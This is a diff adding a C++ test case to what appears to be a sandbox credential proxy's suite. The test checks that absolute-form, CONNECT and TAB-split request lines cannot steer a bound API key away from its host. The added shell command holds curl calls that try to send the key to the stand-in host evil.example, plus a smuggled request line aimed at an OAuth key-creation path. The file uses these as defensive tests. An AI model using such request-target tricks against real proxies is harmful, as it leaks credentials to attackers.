@@ -287,3 +287,32 @@ TEST_CASE("credentials: a compressed answer is refused (502); a WebSocket upgrad
   CHECK(seen.find("Authorization: Bearer " + real) != std::string::npos);
   CHECK(o.out.find(real) == std::string::npos);
 }
+
+TEST_CASE("credentials: an absolute-form, CONNECT or TAB-split request line never reaches the bound host with the key") {
+  Sandbox sb;
+  Certs certs(sb.base, true);
+  TlsServer server(sb.base, certs, "bound");
+  const std::string ph = unique_secret("sk-ant-api03-PH"), real = unique_secret("sk-ant-api03-REAL");
+  const std::string url = "https://127.0.0.1:" + server.port();
+  const std::string code = "curl -s -o /dev/null -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' ";
+  // A server takes the authority of an absolute-form target over Host
+  // (RFC 9112 section 3.2.2): each of these would steer the real key.
+  auto o = sb.jail({"/bin/sh", "-c",
+                    code + "--request-target http://evil.example/steal " + url + "/; " + code +
+                        "--request-target https://evil.example:443/echo " + url + "/; " + code +
+                        "-X CONNECT --request-target evil.example:443 " + url + "/; " + code +
+                        "-X \"$(printf 'POST\\t/api/oauth/claude_cli/create_api_key ')\" " + url + "/; " + code +
+                        "--request-target https://127.0.0.1:" + server.port() + "/abs?q=1 " + url + "/"},
+                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-bind",
+                    "TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca});
+  CAPTURE(o.err);
+  CAPTURE(o.out);
+  CHECK(o.out == "403\n403\n403\n400\n200\n");
+  const std::string seen = server.log();
+  CAPTURE(seen);
+  CHECK(seen.find("evil") == std::string::npos);
+  CHECK(seen.find("oauth") == std::string::npos);
+  // The bound authority's own absolute form arrives in origin form.
+  CHECK(seen.find("GET /abs?q=1 HTTP/1.1\n") == 0);
+  CHECK(seen.find("x-api-key: " + real) != std::string::npos);
+}
